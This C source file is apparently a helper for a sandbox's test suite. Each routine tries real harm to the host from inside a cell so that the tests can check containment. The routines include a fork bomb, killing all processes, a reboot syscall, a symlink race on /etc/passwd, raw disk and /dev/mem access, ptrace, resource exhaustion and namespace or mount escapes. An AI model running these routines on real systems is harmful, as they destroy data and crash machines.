/* attack NAME TARGET: tries to do one kind of harm, in earnest, to what TARGET names outside of the cell: a file, a
   process, a port, a socket. The test (cell/tests/test_attacks.c) runs it in a cell and looks afterwards whether
   anything outside has changed. It is no program under test, and so a compiler may make it.

   It exits with 0 when it has tried all that it knows; what came of it, it says on stdout for people. */
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static void say(const char *what, long result) {
  printf("%s: %s\n", what, result < 0 ? strerrorname_np(errno) : "done");
  fflush(stdout);
}

static pid_t number(const char *text) { return (pid_t)strtol(text, NULL, 10); }

/* ---- Files ----------------------------------------------------------------------------------------------------- */

static void attack_file(const char *path) {
  const struct timespec times[2] = {{1, 1}, {1, 1}};
  int fd = open(path, O_WRONLY | O_TRUNC | O_APPEND);
  say("open for writing", fd);
  if (fd >= 0)
    say("write", write(fd, "harm\n", 5));
  say("truncate", truncate(path, 1));
  say("chmod", chmod(path, 0777));
  say("chown", chown(path, 1, 1));
  say("utimensat", utimensat(AT_FDCWD, path, times, 0));
  say("setxattr", setxattr(path, "user.harm", "x", 1, 0));
  say("rename", rename(path, "here"));
  say("link", link(path, "linked"));
  say("unlink", unlink(path));
  fd = open(path, O_RDONLY);
  say("open for reading", fd);
  if (fd >= 0) {
    say("fchmod", fchmod(fd, 0777));
    say("fchown", fchown(fd, 1, 1));
    say("futimens", futimens(fd, times));
  }
}

/* Its folder: one entry more, or one fewer. */
static void attack_folder(const char *path) {
  char *name = NULL;
  if (asprintf(&name, "%s.harm", path) < 0)
    return;
  say("create", open(name, O_WRONLY | O_CREAT, 0644));
  say("mkdir", mkdir(name, 0755));
  say("mknod", mknod(name, S_IFIFO | 0644, 0));
  say("symlink", symlink("/etc/passwd", name));
  char *slash = strrchr(name, '/');
  *slash = '\0';
  say("chmod of the folder", chmod(name, 0));
  say("rename of the folder", rename(name, "here"));
  say("rmdir", rmdir(name));
  free(name);
}

/* A link in the folder that leads outside, swapped against a file while it is written to. */
static void attack_links(const char *path) {
  say("symlink", symlink(path, "swap"));
  pid_t child = fork();
  for (int i = 0; i < 3000; i++) {
    if (child == 0) {
      unlink("swap");
      close(open("swap", O_WRONLY | O_CREAT, 0644));
      unlink("swap");
      if (symlink(path, "swap") != 0)
        continue;
    } else {
      int fd = open("swap", O_WRONLY | O_APPEND);
      if (fd >= 0 && write(fd, "", 0) == 0)
        close(fd);
      chmod("swap", 0777);
    }
  }
  if (child == 0)
    _exit(0);
  kill(child, SIGKILL);
  waitpid(child, NULL, 0);
  say("open through a link", open("swap", O_WRONLY | O_TRUNC));
  say("open by descriptor", open("/proc/self/cwd/../../../../../../etc/passwd", O_WRONLY));
}

static void attack_devices(const char *path) {
  (void)path;
  say("mknod of a disk", mknod("disk", S_IFBLK | 0600, makedev(254, 0)));
  say("open of it", open("disk", O_RDWR));
  say("open of /dev/vda", open("/dev/vda", O_RDWR));
  say("open of /dev/sda", open("/dev/sda", O_RDWR));
  say("open of /dev/mem", open("/dev/mem", O_RDWR));
  say("open of /dev/tty", open("/dev/tty", O_RDWR));
  say("core_pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY));
  say("sysrq", open("/proc/sysrq-trigger", O_WRONLY));
  say("chmod of /dev/null", chmod("/dev/null", 0600));
}

/* ---- Processes ------------------------------------------------------------------------------------------------- */

static void attack_process(const char *pid) {
  static const int signals[] = {SIGSTOP, SIGTERM, SIGKILL, SIGHUP};
  for (size_t i = 0; i < sizeof signals / sizeof *signals; i++) {
    say("kill", kill(number(pid), signals[i]));
    say("tgkill", syscall(SYS_tgkill, number(pid), number(pid), signals[i]));
    say("kill of the parent", kill(getppid() ? getppid() : number(pid), signals[i]));
    say("kill of its group", kill(-number(pid), signals[i]));
  }
  siginfo_t info = {.si_code = SI_QUEUE};
  say("rt_sigqueueinfo", syscall(SYS_rt_sigqueueinfo, number(pid), SIGKILL, &info));
  int fd = (int)syscall(SYS_pidfd_open, number(pid), 0);
  say("pidfd_open", fd);
  say("pidfd_send_signal", syscall(SYS_pidfd_send_signal, fd, SIGKILL, NULL, 0));
  const struct rlimit none = {0, 0};
  say("prlimit", prlimit(number(pid), RLIMIT_NOFILE, &none, NULL));
  say("setpriority", setpriority(PRIO_PROCESS, (id_t)number(pid), 19));
  say("sched_setaffinity", sched_setaffinity(number(pid), 0, NULL));
}

static void attack_all_processes(const char *pid) {
  (void)pid;
  signal(SIGTERM, SIG_IGN);
  say("kill(-1, SIGTERM)", kill(-1, SIGTERM));
  say("kill(-1, SIGKILL)", kill(-1, SIGKILL));
}

static void attack_group(const char *pid) {
  (void)pid;
  signal(SIGTERM, SIG_IGN);
  say("kill(0, SIGTERM)", kill(0, SIGTERM));
  say("kill(0, SIGKILL)", kill(0, SIGKILL));
}

static void attack_memory_of(const char *pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/mem", pid);
  say("open of its memory", open(path, O_RDWR));
  say("ptrace(ATTACH)", ptrace(PTRACE_ATTACH, number(pid), NULL, NULL));
  say("ptrace(SEIZE)", ptrace(PTRACE_SEIZE, number(pid), NULL, NULL));
  say("ptrace(ATTACH) to the parent", ptrace(PTRACE_ATTACH, getppid() ? getppid() : 1, NULL, NULL));
  char byte = 0;
  struct iovec local = {&byte, 1};
  struct iovec remote = {&byte, 1};
  say("process_vm_writev", process_vm_writev(number(pid), &local, 1, &remote, 1, 0));
}

/* What stays behind: a child that left its group and session, and lost its parent. */
static void attack_daemon(const char *unused) {
  (void)unused;
  if (fork() == 0) {
    setsid();
    if (fork() == 0) {
      signal(SIGTERM, SIG_IGN);
      signal(SIGHUP, SIG_IGN);
      for (;;)
        pause();
    }
    _exit(0);
  }
  while (wait(NULL) > 0)
    ;
  say("daemon", 0);
}

/* What stays behind: a child of the process that started this one. */
static void attack_sibling(const char *unused) {
  (void)unused;
  long made = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
  if (made == 0) {
    close(STDIN_FILENO);
    close(STDOUT_FILENO);
    close(STDERR_FILENO);
    for (;;)
      pause();
  }
  say("sibling", made);
}

/* Processes that make processes, as many as they can: each tries a few, and all go on. */
static void attack_bomb(const char *unused) {
  (void)unused;
  for (int i = 0; i < 4000; i++) {
    pid_t child = fork();
    if (child < 0) {
      say("fork", child);
      return;
    }
    if (child == 0) {
      setsid();
      fork();
      for (;;)
        pause();
    }
  }
  say("4000 forks", 0);
}

/* ---- What a machine has only so much of ------------------------------------------------------------------------- */

/* Asks for all of it first, and then writes to each page: where the address space is limited, nothing need be written.
 */
static void attack_memory(const char *unused) {
  (void)unused;
  enum { STEP = 256 << 20, BLOCKS = 40 };
  char *blocks[BLOCKS];
  for (int i = 0; i < BLOCKS; i++) {
    blocks[i] = mmap(NULL, STEP, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (blocks[i] == MAP_FAILED) {
      say("mmap", -1);
      return;
    }
  }
  for (int i = 0; i < BLOCKS; i++)
    for (size_t k = 0; k < STEP; k += 4096)
      blocks[i][k] = 1;
  say("10 GiB of memory", 0);
}

static void attack_disk(const char *unused) {
  (void)unused;
  static char block[1 << 20];
  signal(SIGXFSZ, SIG_IGN);
  for (int file = 0; file < 4; file++) {
    char name[16];
    snprintf(name, sizeof name, "full%d", file);
    int fd = open(name, O_WRONLY | O_CREAT, 0600);
    for (int i = 0; fd >= 0 && i < 700; i++)
      if (write(fd, block, sizeof block) < 0) {
        say("write", -1);
        return;
      }
  }
  say("2.8 GB on the disk", 0);
}

static void attack_descriptors(const char *unused) {
  (void)unused;
  long count = 0;
  while (count < 1000000 && open("/dev/null", O_RDONLY) >= 0)
    count++;
  say("a million descriptors", count < 1000000 ? -1 : 0);
}

/* Deeper than a path can be long: 4096 bytes, of which each folder takes 5. */
static void attack_depth(const char *unused) {
  (void)unused;
  enum { DEPTH = 1000 };
  int depth = 0;
  while (depth < DEPTH && mkdir("deep", 0755) == 0 && chdir("deep") == 0)
    depth++;
  say("folders in folders", depth < DEPTH ? -1 : 0);
  chmod(".", 0);
}

/* ---- Left in the kernel ----------------------------------------------------------------------------------------- */

static void attack_ipc(const char *unused) {
  (void)unused;
  say("shmget", shmget(0x62797465, 4096, IPC_CREAT | 0666));
  say("semget", semget(0x62797465, 1, IPC_CREAT | 0666));
  say("msgget", msgget(0x62797465, IPC_CREAT | 0666));
  say("shm_open", open("/dev/shm/bytegate-attack", O_RDWR | O_CREAT, 0666));
  say("a file in /tmp", open("/tmp/bytegate-attack", O_RDWR | O_CREAT, 0666));
  say("mq_open", syscall(SYS_mq_open, "bytegate-attack", O_RDWR | O_CREAT, 0666, NULL));
  int fd = inotify_init();
  say("inotify_add_watch", inotify_add_watch(fd, "/etc", IN_ALL_EVENTS));
}

/* NAME: of the test, for it finds the key by that. */
static void attack_keys(const char *name) {
  enum { JOIN_SESSION = 1, USER_KEYRING = -4 };
  char description[64];
  snprintf(description, sizeof description, "bytegate-attack-%s", name);
  say("add_key", syscall(SYS_add_key, "user", description, "x", 1, USER_KEYRING));
  say("keyctl", syscall(SYS_keyctl, JOIN_SESSION, description));
  say("request_key", syscall(SYS_request_key, "user", description, "x", USER_KEYRING));
}

static void attack_kernel(const char *unused) {
  (void)unused;
  char parameters[256] = {0};
  say("io_uring_setup", syscall(425, 4, parameters));
  say("userfaultfd", syscall(SYS_userfaultfd, 0));
  say("bpf", syscall(SYS_bpf, 0, parameters, sizeof parameters));
  say("perf_event_open", syscall(SYS_perf_event_open, parameters, 0, -1, -1, 0));
  say("unshare(CLONE_NEWUSER)", unshare(CLONE_NEWUSER));
  say("clone(CLONE_NEWUSER)",
      syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, NULL, NULL, NULL, NULL) == 0 ? (long)(_exit(0), 0) : -(errno != 0));
  say("setns", setns(open("/proc/1/ns/mnt", O_RDONLY), 0));
  say("mount", mount("bytegate-attack", "/mnt", "tmpfs", 0, NULL));
  say("remount", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  say("umount", umount2("/proc", MNT_DETACH));
  say("pivot_root", syscall(SYS_pivot_root, ".", "."));
  say("chroot", chroot("."));
  say("sethostname", sethostname("harm", 4));
  say("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, NULL));
  say("settimeofday", settimeofday(&(struct timeval){1, 0}, NULL));
  say("swapon", syscall(SYS_swapon, "/dev/null", 0));
  say("init_module", syscall(SYS_init_module, parameters, 1UL, ""));
}

static void attack_authority(const char *path) {
  say("setuid(0)", setuid(0));
  say("setgid(0)", setgid(0));
  say("setresuid", setresuid(1, 1, 1));
  /* A program that the file system says is to run as its owner. */
  int child = fork();
  if (child == 0) {
    execl("/bin/su", "su", "-c", "true", NULL);
    _exit(1);
  }
  waitpid(child, NULL, 0);
  (void)path;
}

/* ---- Sockets ---------------------------------------------------------------------------------------------------- */

static void attack_port(const char *port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)number(port))};
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  say("connect", connect(fd, (struct sockaddr *)&address, sizeof address));
  fd = socket(AF_INET, SOCK_STREAM, 0);
  say("sendto(MSG_FASTOPEN)", sendto(fd, "harm", 4, MSG_FASTOPEN, (struct sockaddr *)&address, sizeof address));
  fd = socket(AF_INET, SOCK_DGRAM, 0);
  say("socket(SOCK_DGRAM)", fd);
  say("sendto", sendto(fd, "harm", 4, 0, (struct sockaddr *)&address, sizeof address));
  /* 192.0.2.1 is nobody's (RFC 5737). */
  address.sin_addr.s_addr = htonl(0xc0000201);
  fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  say("connect outwards", connect(fd, (struct sockaddr *)&address, sizeof address));
  say("socket(AF_PACKET)", socket(AF_PACKET, SOCK_RAW, 0));
  say("socket(AF_NETLINK)", socket(AF_NETLINK, SOCK_RAW, 0));
}

/* An abstract socket, @NAME, or one that is a file. */
static void attack_socket(const char *name) {
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  snprintf(address.sun_path, sizeof address.sun_path, "%s", name);
  socklen_t size = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + strlen(name) + (*name != '@'));
  if (*name == '@')
    address.sun_path[0] = '\0';
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  say("connect", connect(fd, (struct sockaddr *)&address, size));
  fd = socket(AF_UNIX, SOCK_DGRAM, 0);
  say("sendto", sendto(fd, "harm", 4, 0, (struct sockaddr *)&address, size));
}

static const struct {
  const char *name;
  void (*attack)(const char *target);
} attacks[] = {{"file", attack_file},           {"folder", attack_folder},
               {"links", attack_links},         {"devices", attack_devices},
               {"process", attack_process},     {"all-processes", attack_all_processes},
               {"group", attack_group},         {"memory-of", attack_memory_of},
               {"daemon", attack_daemon},       {"sibling", attack_sibling},
               {"bomb", attack_bomb},           {"memory", attack_memory},
               {"disk", attack_disk},           {"descriptors", attack_descriptors},
               {"depth", attack_depth},         {"ipc", attack_ipc},
               {"keys", attack_keys},           {"kernel", attack_kernel},
               {"authority", attack_authority}, {"port", attack_port},
               {"socket", attack_socket}};

int main(int argc, char **argv) {
  for (size_t i = 0; argc == 3 && i < sizeof attacks / sizeof *attacks; i++)
    if (strcmp(attacks[i].name, argv[1]) == 0) {
      attacks[i].attack(argv[2]);
      return 0;
    }
  fputs("usage: attack NAME TARGET\n", stderr);
  return 2;
}

/* SPDX-License-Identifier: MIT */
